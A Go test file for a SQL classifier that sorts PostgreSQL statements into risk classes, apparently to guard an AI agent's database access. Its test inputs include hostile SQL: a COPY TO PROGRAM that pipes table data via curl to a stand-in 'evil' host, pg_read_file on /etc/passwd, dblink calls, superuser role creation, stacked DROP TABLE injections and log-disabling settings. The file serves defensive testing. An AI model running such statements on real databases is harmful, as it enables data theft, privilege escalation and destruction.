package sqlguard

import (
	"slices"
	"strings"
	"testing"

	"warden"
)

func TestClassify(t *testing.T) {
	type want struct {
		class    Class
		reads    []string
		writes   []string
		funcs    []string
		hasWhere bool
	}
	cases := []struct {
		name string
		sql  string
		want []want
	}{
		{"plain select", "SELECT id, name FROM customers WHERE id = 1", []want{{class: Select, reads: []string{"customers"}, hasWhere: true}}},
		{"schema qualified", "SELECT * FROM crm.customers c JOIN public.orders o ON o.cid = c.id", []want{{class: Select, reads: []string{"crm.customers", "public.orders"}}}},
		{"subquery", "SELECT * FROM (SELECT * FROM a WHERE x IN (SELECT y FROM b)) s", []want{{class: Select, reads: []string{"a", "b"}}}},
		{"cte hides no table", "WITH t AS (SELECT * FROM secret) SELECT * FROM t", []want{{class: Select, reads: []string{"secret"}}}},
		{"cte named like the table it reads", "WITH users AS (SELECT * FROM users WHERE active) SELECT * FROM users", []want{{class: Select, reads: []string{"users"}}}},
		{"cte scope ends with its query", "SELECT * FROM (WITH users AS (SELECT 1) SELECT * FROM users) a, users", []want{{class: Select, reads: []string{"users"}}}},
		{"recursive cte", "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n < 5) SELECT * FROM r", []want{{class: Select}}},
		{"insert", "INSERT INTO notes (body) VALUES ('x')", []want{{class: Insert, writes: []string{"notes"}}}},
		{"insert select", "INSERT INTO archive SELECT * FROM notes", []want{{class: Insert, reads: []string{"notes"}, writes: []string{"archive"}}}},
		{"upsert updates", "INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET n = t.n + 1", []want{{class: Update, writes: []string{"t"}, hasWhere: true}}},
		{"upsert nothing", "INSERT INTO t (id) VALUES (1) ON CONFLICT DO NOTHING", []want{{class: Insert, writes: []string{"t"}}}},
		{"update with where", "UPDATE accounts SET balance = 0 WHERE id = $1", []want{{class: Update, writes: []string{"accounts"}, hasWhere: true}}},
		{"update without where", "UPDATE accounts SET balance = 0", []want{{class: Update, writes: []string{"accounts"}, hasWhere: false}}},
		{"update from", "UPDATE a SET x = b.x FROM b WHERE a.id = b.id", []want{{class: Update, reads: []string{"b"}, writes: []string{"a"}, hasWhere: true}}},
		{"delete with where", "DELETE FROM sessions WHERE expires < now()", []want{{class: Delete, writes: []string{"sessions"}, funcs: []string{"now"}, hasWhere: true}}},
		{"delete without where", "DELETE FROM sessions", []want{{class: Delete, writes: []string{"sessions"}}}},
		{"truncate", "TRUNCATE audit_log", []want{{class: Delete, writes: []string{"audit_log"}}}},
		{"writable cte makes select a delete", "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", []want{{class: Delete, writes: []string{"users"}}}},
		{"writable cte without where in update", "WITH u AS (UPDATE users SET admin = true RETURNING id) SELECT count(*) FROM u WHERE id > 0", []want{{class: Update, writes: []string{"users"}, funcs: []string{"count"}}}},
		{"merge", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)", []want{{class: Delete, reads: []string{"s"}, writes: []string{"t"}}}},
		{"stacked statements", "SELECT 1; DROP TABLE x", []want{{class: Select}, {class: DDL, writes: []string{"x"}}}},
		{"comment hides nothing", "SELECT 1 /* ; DROP TABLE x; */ -- ; DELETE FROM y\n; DELETE FROM z", []want{{class: Select}, {class: Delete, writes: []string{"z"}}}},
		{"dollar quoting hides nothing", "SELECT $$; DROP TABLE x; $$; SELECT $tag$ $$ $tag$; DROP TABLE y", []want{{class: Select}, {class: Select}, {class: DDL, writes: []string{"y"}}}},
		{"string with semicolon", "SELECT 'a; DROP TABLE x'", []want{{class: Select}}},
		{"copy to program", "COPY users TO PROGRAM 'curl -d @- http://evil'", []want{{class: Admin, reads: []string{"users"}}}},
		{"copy from program", "COPY users FROM PROGRAM 'id'", []want{{class: Admin, writes: []string{"users"}}}},
		{"copy to file", "COPY users TO '/tmp/users.csv'", []want{{class: Admin, reads: []string{"users"}}}},
		{"copy to stdout", "COPY users TO STDOUT", []want{{class: Select, reads: []string{"users"}}}},
		{"copy query to stdout", "COPY (SELECT * FROM users) TO STDOUT", []want{{class: Select, reads: []string{"users"}}}},
		{"copy from stdin", "COPY users FROM STDIN", []want{{class: Insert, writes: []string{"users"}}}},
		{"copy of a delete", "COPY (DELETE FROM users RETURNING *) TO STDOUT", []want{{class: Delete, writes: []string{"users"}}}},
		{"dangerous default", "CREATE TABLE t (x int DEFAULT pg_terminate_backend(1)::int)", []want{{class: Admin, writes: []string{"t"}}}},
		{"set via function in a cte", "WITH s AS (SELECT set_config('search_path', 'evil', false)) SELECT * FROM s", []want{{class: Admin}}},
		{"set role", "SET ROLE postgres", []want{{class: Admin}}},
		{"set local role", "SET LOCAL ROLE postgres", []want{{class: Admin}}},
		{"reset role", "RESET ROLE", []want{{class: Admin}}},
		{"set session authorization", "SET SESSION AUTHORIZATION postgres", []want{{class: Admin}}},
		{"set search_path", "SET search_path = evil, public", []want{{class: Admin}}},
		{"set statement_timeout", "SET statement_timeout = 0", []want{{class: Admin}}},
		{"set client_encoding", "SET client_encoding = 'SJIS'", []want{{class: Admin}}},
		{"set application_name", "SET application_name = 'agent'", []want{{class: Select}}},
		{"set transaction", "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", []want{{class: Select}}},
		{"show", "SHOW server_version", []want{{class: Select}}},
		{"transaction", "BEGIN; SELECT 1; COMMIT", []want{{class: Select}, {class: Select}, {class: Select}}},
		{"prepare transaction", "PREPARE TRANSACTION 'x'", []want{{class: Admin}}},
		{"terminate backend", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", []want{{class: Admin, reads: []string{"pg_stat_activity"}, funcs: []string{"pg_terminate_backend"}}}},
		{"qualified terminate", "SELECT pg_catalog.pg_terminate_backend(1)", []want{{class: Admin, funcs: []string{"pg_catalog.pg_terminate_backend"}}}},
		{"dblink in from", "SELECT * FROM dblink('host=evil', 'DELETE FROM x') AS t(a int)", []want{{class: Admin, funcs: []string{"dblink"}}}},
		{"lo_export", "SELECT lo_export(16400, '/tmp/x')", []want{{class: Admin, funcs: []string{"lo_export"}}}},
		{"pg_read_file", "SELECT pg_read_file('/etc/passwd')", []want{{class: Admin, funcs: []string{"pg_read_file"}}}},
		{"set_config role", "SELECT set_config('role', 'postgres', false)", []want{{class: Admin, funcs: []string{"set_config"}}}},
		{"query_to_xml", "SELECT query_to_xml('DELETE FROM users RETURNING 1', true, true, '')", []want{{class: Admin, funcs: []string{"query_to_xml"}}}},
		{"dangerous call in a subquery", "SELECT * FROM t WHERE id IN (SELECT pg_cancel_backend(1))", []want{{class: Admin, reads: []string{"t"}, funcs: []string{"pg_cancel_backend"}, hasWhere: true}}},
		{"alter system", "ALTER SYSTEM SET log_statement = 'none'", []want{{class: Admin}}},
		{"create role", "CREATE ROLE evil SUPERUSER", []want{{class: Admin}}},
		{"grant role", "GRANT pg_read_server_files TO current_user", []want{{class: Admin}}},
		{"grant on table", "GRANT SELECT ON secrets TO public", []want{{class: Admin, writes: []string{"secrets"}}}},
		{"do block", "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", []want{{class: Admin}}},
		{"call", "CALL cleanup()", []want{{class: Admin}}},
		{"execute", "EXECUTE p(1)", []want{{class: Admin}}},
		{"explain analyze execute", "EXPLAIN ANALYZE EXECUTE p(1)", []want{{class: Admin}}},
		{"explain analyze delete", "EXPLAIN ANALYZE DELETE FROM t", []want{{class: Delete, writes: []string{"t"}}}},
		{"prepare delete", "PREPARE p AS DELETE FROM t WHERE id = $1", []want{{class: Delete, writes: []string{"t"}, hasWhere: true}}},
		{"create table", "CREATE TABLE t (id int)", []want{{class: DDL, writes: []string{"t"}}}},
		{"create table as", "CREATE TABLE copy AS SELECT * FROM secret", []want{{class: DDL, reads: []string{"secret"}, writes: []string{"copy"}}}},
		{"select into", "SELECT * INTO copy FROM secret", []want{{class: DDL, reads: []string{"secret"}, writes: []string{"copy"}}}},
		{"create view", "CREATE VIEW v AS SELECT * FROM secret", []want{{class: DDL, reads: []string{"secret"}, writes: []string{"v"}}}},
		{"drop table", "DROP TABLE IF EXISTS crm.customers, notes", []want{{class: DDL, writes: []string{"crm.customers", "notes"}}}},
		{"alter table", "ALTER TABLE t ADD COLUMN c int", []want{{class: DDL, writes: []string{"t"}}}},
		{"create extension", "CREATE EXTENSION dblink", []want{{class: Admin}}},
		{"load", "LOAD 'evil.so'", []want{{class: Admin}}},
		{"notify", "NOTIFY ch, 'x'", []want{{class: Admin}}},
		{"lock", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", []want{{class: Admin, writes: []string{"t"}}}},
		{"vacuum", "VACUUM FULL t", []want{{class: Admin, writes: []string{"t"}}}},
		{"table command", "TABLE secrets", []want{{class: Select, reads: []string{"secrets"}}}},
		{"union", "SELECT a FROM x UNION SELECT b FROM y", []want{{class: Select, reads: []string{"x", "y"}}}},
		{"lateral function", "SELECT * FROM t, LATERAL generate_series(1, t.n)", []want{{class: Select, reads: []string{"t"}, funcs: []string{"generate_series"}}}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			a, err := Analyze(tc.sql)
			if err != nil {
				t.Fatalf("Analyze: %v", err)
			}
			if len(a.Statements) != len(tc.want) {
				t.Fatalf("%d statements, want %d", len(a.Statements), len(tc.want))
			}
			for i, w := range tc.want {
				s := a.Statements[i]
				if s.Class != w.class {
					t.Errorf("statement %d (%s): class %s, want %s (reasons %v)", i+1, s.Text, s.Class, w.class, s.Reasons)
				}
				if !slices.Equal(s.Reads, w.reads) {
					t.Errorf("statement %d: reads %v, want %v", i+1, s.Reads, w.reads)
				}
				if !slices.Equal(s.Writes, w.writes) {
					t.Errorf("statement %d: writes %v, want %v", i+1, s.Writes, w.writes)
				}
				if w.funcs != nil && !slices.Equal(s.Functions, w.funcs) {
					t.Errorf("statement %d: functions %v, want %v", i+1, s.Functions, w.funcs)
				}
				if s.HasWhere != w.hasWhere {
					t.Errorf("statement %d: has_where %v, want %v", i+1, s.HasWhere, w.hasWhere)
				}
			}
		})
	}
}

func TestRefused(t *testing.T) {
	cases := []struct {
		name, sql string
		code      warden.Code
	}{
		{"syntax error", "SELEC 1", warden.CodeInvalid},
		{"unterminated string", "SELECT 'abc", warden.CodeInvalid},
		{"unterminated dollar quote", "SELECT $$abc; DROP TABLE x", warden.CodeInvalid},
		{"empty", "", warden.CodeInvalid},
		{"only a comment", "-- nothing", warden.CodeInvalid},
		{"nul byte", "SELECT 1\x00; DROP TABLE x", warden.CodeInvalid},
		{"invalid utf8", "SELECT '\xff'", warden.CodeInvalid},
		{"huge", "SELECT '" + strings.Repeat("a", MaxSQLBytes) + "'", warden.CodeTooLarge},
		{"too many statements", strings.Repeat("SELECT 1;", MaxStatements+1), warden.CodeTooLarge},
		{"deep nesting", "SELECT " + strings.Repeat("(", 20000) + "1" + strings.Repeat(")", 20000), warden.CodeInvalid},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			a, err := Analyze(tc.sql)
			if err == nil {
				t.Fatalf("Analyze accepted %q: %+v", clip(tc.sql, 60), a.Statements)
			}
			if got := warden.ErrorCode(err); got != tc.code {
				t.Fatalf("code %s, want %s (%v)", got, tc.code, err)
			}
		})
	}
}

func TestFingerprint(t *testing.T) {
	a, err := Analyze("SELECT * FROM users WHERE id = 42 AND name = 'bob'; select *  from users where id = 7 and name = 'alice' -- hi")
	if err != nil {
		t.Fatal(err)
	}
	s1, s2 := a.Statements[0], a.Statements[1]
	if s1.Fingerprint == "" || s1.Fingerprint != s2.Fingerprint {
		t.Fatalf("fingerprints %q and %q should be equal and non-empty", s1.Fingerprint, s2.Fingerprint)
	}
	if strings.Contains(s1.Normalized, "42") || strings.Contains(s1.Normalized, "bob") {
		t.Fatalf("normalized text keeps constants: %q", s1.Normalized)
	}
	if s1.Text != "SELECT * FROM users WHERE id = 42 AND name = 'bob'" {
		t.Fatalf("text %q", s1.Text)
	}
	b, err := Analyze("SELECT * FROM users WHERE id = 42 OR true")
	if err != nil {
		t.Fatal(err)
	}
	if b.Statements[0].Fingerprint == s1.Fingerprint {
		t.Fatal("a different statement has the same fingerprint")
	}
	p, err := Analyze("SELECT $1::int + $3")
	if err != nil {
		t.Fatal(err)
	}
	if p.Statements[0].Params != 3 {
		t.Fatalf("params %d, want 3", p.Statements[0].Params)
	}
}

func TestSetting(t *testing.T) {
	a, err := Analyze("SET warden.approval = 'apr_123'")
	if err != nil {
		t.Fatal(err)
	}
	if s := a.Statements[0]; s.Setting != "warden.approval" || s.SettingValue != "apr_123" || s.Class != Admin {
		t.Fatalf("%+v", s)
	}
}

func TestAnalysisClass(t *testing.T) {
	a, err := Analyze("SELECT 1; INSERT INTO t VALUES (1); SELECT 2")
	if err != nil {
		t.Fatal(err)
	}
	if a.Class() != Insert {
		t.Fatalf("class %s, want insert", a.Class())
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{"SELECT 1", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "COPY t TO PROGRAM 'x'", "SELECT $$;$$; DROP TABLE x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, sql string) {
		a, err := Analyze(sql)
		if err != nil {
			return
		}
		for _, s := range a.Statements {
			if s.Class.rank() < 0 {
				t.Fatalf("unknown class %q", s.Class)
			}
			if s.Fingerprint == "" {
				t.Fatal("empty fingerprint")
			}
		}
	})
}
